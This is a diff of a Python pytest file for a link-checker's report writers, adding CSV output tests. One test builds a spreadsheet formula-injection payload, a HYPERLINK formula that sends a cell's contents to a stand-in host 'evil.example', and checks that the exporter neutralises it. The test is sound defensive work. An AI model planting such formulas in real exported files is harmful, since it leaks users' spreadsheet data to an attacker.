@@ -144,7 +144,7 @@ def test_junit_parses_and_counts() -> None:
     assert (root.get("tests"), root.get("failures")) == ("7", "2")
 
 
-@pytest.mark.parametrize("name", ["github", "sarif", "junit", "markdown", "json", "text", "html"])
+@pytest.mark.parametrize("name", sorted(WRITERS))
 def test_every_format_is_reachable_from_the_cli(tmp_path: Path, monkeypatch, name: str) -> None:
     from linkcheck._cli import run
 
@@ -156,6 +156,49 @@ def test_every_format_is_reachable_from_the_cli(tmp_path: Path, monkeypatch, nam
 
 @pytest.mark.parametrize("report", [REPORT, Report(files=(), results=())], ids=["hostile", "empty"])
 def test_json_report_parses_back_to_the_same_document(report: Report) -> None:
-    from linkcheck._report.json import report_to_dict
+    from conftest import report_to_dict
 
     assert json.loads(render("json", report)) == report_to_dict(report)
+
+
+# --- CSV -----------------------------------------------------------------------------------
+
+
+def test_csv_is_one_rfc4180_row_per_occurrence_with_the_json_fields() -> None:
+    import csv
+
+    from linkcheck._report.csv import COLUMNS
+
+    written = render("csv")
+    # RFC 4180: CRLF between records, a field with a line break quoted (the hostile URL).
+    assert written.endswith("\r\n") and written.count("\r\n") > len(REPORT.results)
+    rows = list(csv.DictReader(StringIO(written, newline="")))
+    assert tuple(rows[0]) == COLUMNS
+    document = json.loads(render("json"))["links"]
+    assert len(rows) == len(document) == len(REPORT.results)
+    for row, expected in zip(rows, document, strict=True):
+        for name in ("file", "kind", "text", "url", "status", "reason", "final_url"):
+            shown = "" if expected[name] is None else str(expected[name])
+            assert row[name] == shown, name
+        assert (int(row["line"]), int(row["column"])) == (expected["line"], expected["column"])
+        assert row["shortlink"] == str(expected["shortlink"]).lower()
+        assert row["http_status"] == (
+            "" if expected["http_status"] is None else str(expected["http_status"])
+        )
+        assert json.loads(row["redirects"]) == expected["redirects"]
+        assert row["flaky"] == ("true" if expected.get("flaky") else "false")
+    assert rows[0]["url"] == HOSTILE  # the line break survives, quoted
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_evaluate_are_written_as_text(start: str) -> None:
+    import csv
+
+    attack = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    report = Report(
+        files=("a.md",),
+        results=(result("a.md", 1, 1, attack, Status.BROKEN, attack, text=attack),),
+    )
+    (row,) = csv.DictReader(StringIO(render("csv", report), newline=""))
+    assert row["text"] == row["url"] == row["reason"] == "'" + attack
+    assert row["file"] == "a.md" and row["line"] == "1"  # nothing else is touched
